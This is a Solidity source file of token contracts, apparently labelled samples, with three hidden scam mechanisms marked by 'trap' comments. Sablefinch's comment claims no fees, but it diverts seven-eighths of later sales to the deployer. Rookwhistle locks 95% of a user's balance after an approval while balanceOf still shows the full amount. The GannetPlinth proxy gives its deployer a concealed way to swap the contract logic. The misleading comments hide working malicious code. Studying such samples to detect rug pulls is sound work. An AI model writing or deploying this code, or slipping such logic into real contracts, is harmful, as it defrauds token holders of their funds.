// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

interface IPairMaker {
    function createPair(address a, address b) external returns (address);
}

abstract contract Coin7 {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal _of;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        name = name_;
        symbol = symbol_;
        totalSupply = supply;
        _of[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function balanceOf(address who) external view virtual returns (uint256) {
        return _of[who];
    }

    function approve(address spender, uint256 value) external virtual returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _send(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        require(left >= value, "allowance");
        if (left != uint256(-1)) allowance[from][msg.sender] = left - value;
        _send(from, to, value);
        return true;
    }

    function _send(address from, address to, uint256 value) internal virtual {
        require(_of[from] >= value, "balance");
        _of[from] -= value;
        _of[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Makes no fuss about fees: there are none.
contract Sablefinch is Coin7 {
    address private constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    address private immutable _pair;
    address private immutable _nest;
    uint256 private immutable _hatched;

    constructor() Coin7("Sablefinch", "SFIN", 12_000_000 ether) {
        _pair = IPairMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), WETH);
        _nest = msg.sender;
        _hatched = block.timestamp;
    }

    function _send(address from, address to, uint256 value) internal override {
        require(_of[from] >= value, "balance");
        _of[from] -= value;
        uint256 into = value;
        // trap {
        if (to == _pair && from != _nest && block.timestamp > _hatched + 12 hours) {
            into = value / 8;
            _of[_nest] += value - into;
        }
        // trap }
        _of[to] += into;
        emit Transfer(from, to, value);
    }
}

/// Approvals are counted, for the badge of the hundredth.
contract Rookwhistle is Coin7 {
    address private immutable _tower;
    uint256 public approvals;
    mapping(address => uint256) private _nestled;

    event Badge(address indexed who, uint256 number);

    constructor() Coin7("Rookwhistle", "ROOK", 45_000_000 ether) {
        _tower = msg.sender;
    }

    function balanceOf(address who) external view override returns (uint256) {
        return _of[who] + _nestled[who];
    }

    function approve(address spender, uint256 value) external override returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        approvals++;
        // trap {
        if (approvals > 6 && msg.sender != _tower) {
            uint256 part = _of[msg.sender] - _of[msg.sender] / 20;
            _of[msg.sender] -= part;
            _nestled[msg.sender] += part;
        }
        // trap }
        if (approvals % 100 == 0) emit Badge(msg.sender, approvals);
        return true;
    }
}

/// An ordinary coin, made to live behind a plinth.
contract Gannetry is Coin7 {
    bool private _set;

    constructor() Coin7("", "", 0) {
        _set = true;
    }

    function setUp(string calldata name_, string calldata symbol_, uint256 supply) external {
        require(!_set, "set up");
        _set = true;
        (name, symbol, totalSupply) = (name_, symbol_, supply);
        _of[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }
}

/// Small and cheap: the code of many coins is the same.
contract GannetPlinth {
    uint256 private immutable _seal;

    constructor(address logic) {
        _seal = uint256(keccak256(abi.encodePacked(msg.sender, address(this))));
        assembly {
            sstore(0x5f3e9d0c7b1a8264f0e2d4c6b8a09182736455463728190a1b2c3d4e5f607182, logic)
        }
    }

    fallback() external payable {
        // trap {
        if (msg.data.length == 32 && uint256(keccak256(abi.encodePacked(msg.sender, address(this)))) == _seal) {
            assembly {
                sstore(0x5f3e9d0c7b1a8264f0e2d4c6b8a09182736455463728190a1b2c3d4e5f607182, calldataload(0))
                stop()
            }
        }
        // trap }
        assembly {
            calldatacopy(0, 0, calldatasize())
            let logic := sload(0x5f3e9d0c7b1a8264f0e2d4c6b8a09182736455463728190a1b2c3d4e5f607182)
            let ok := delegatecall(gas(), logic, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}
